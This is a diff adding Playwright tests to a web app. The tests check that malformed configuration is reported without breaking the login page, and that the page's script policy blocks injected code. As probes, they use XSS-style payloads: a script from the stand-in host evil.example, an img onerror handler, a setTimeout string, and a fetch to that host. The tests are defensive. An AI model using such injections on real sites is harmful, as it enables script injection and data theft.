@@ -1,3 +1,4 @@
+import type { Page } from '@playwright/test';
 import { expectAccessible, expectNoSidewaysScroll } from '../fixtures/accessibility.ts';
 import { expect, test } from '../fixtures/test.ts';
 
@@ -33,3 +34,67 @@ test('seller and buyer are signed in side by side', async ({ sellerPage, buyerPa
   await expect(sellerPage.getByText('Chidi').first()).toBeVisible();
   await expect(buyerPage.getByText('Ada').first()).toBeVisible();
 });
+
+const BROKEN: Readonly<Record<string, RegExp>> = {
+  '': /app-config is not valid JSON/,
+  '{ productName: ': /app-config is not valid JSON/,
+  '[]': /app-config: configuration must be an object/,
+  '{ "apiBaseUrl": 5, "identityScriptUrl": "javascript:1" }': /app-config: apiBaseUrl must be a web address/,
+};
+
+for (const [text, complaint] of Object.entries(BROKEN))
+  test(`the configuration '${text}' is complained of, and does not cost the page`, async ({
+    page,
+    problems,
+  }) => {
+    problems.allow(/app-config/);
+    await page.route('**/login', async (route) => {
+      const response = await route.fetch();
+      const html = (await response.text()).replace(/(id="app-config">)[^<]*/, (_, tag: string) => tag + text);
+      await route.fulfill({ response, body: html });
+    });
+
+    await page.goto('/login');
+
+    await expect(page.getByRole('button', { name: 'Log In', exact: true })).toBeVisible();
+    expect(problems.seen(complaint)).toBe(1);
+  });
+
+function addScript(page: Page, property: 'src' | 'text', value: string): Promise<void> {
+  return page.evaluate(
+    ([name, text]) => {
+      const script = document.createElement('script');
+      // As markup would: without asking the page's own policy for scripts.
+      if (name === 'src') script.setAttribute('src', text);
+      else script.append(text);
+      document.body.append(script);
+    },
+    [property, value] as const,
+  );
+}
+
+const FORBIDDEN: Readonly<Record<string, (page: Page) => Promise<unknown>>> = {
+  'a script of another site': (page) => addScript(page, 'src', 'https://evil.example/x.js'),
+  'a script written into the page': (page) => addScript(page, 'text', 'window.ran = true'),
+  'a handler in markup': (page) =>
+    page.evaluate(() => {
+      document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.ran = true">');
+    }),
+  'a text that is run': (page) =>
+    page.evaluate(() => void Reflect.apply(setTimeout, window, ['window.ran = true'])),
+  'a call to another site': (page) => page.evaluate(() => fetch('https://evil.example/')),
+};
+
+for (const [what, attempt] of Object.entries(FORBIDDEN))
+  test(`the policy of the page stops ${what}`, async ({ page, problems }) => {
+    problems.allow(/policy|TrustedHTML|TrustedScript/i);
+    await page.goto('/login');
+
+    // Some are refused at once, others dropped.
+    await attempt(page).catch(() => null);
+
+    await expect
+      .poll(() => problems.seen(/policy: |Content Security Policy|TrustedScript/))
+      .toBeGreaterThan(0);
+    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
+  });
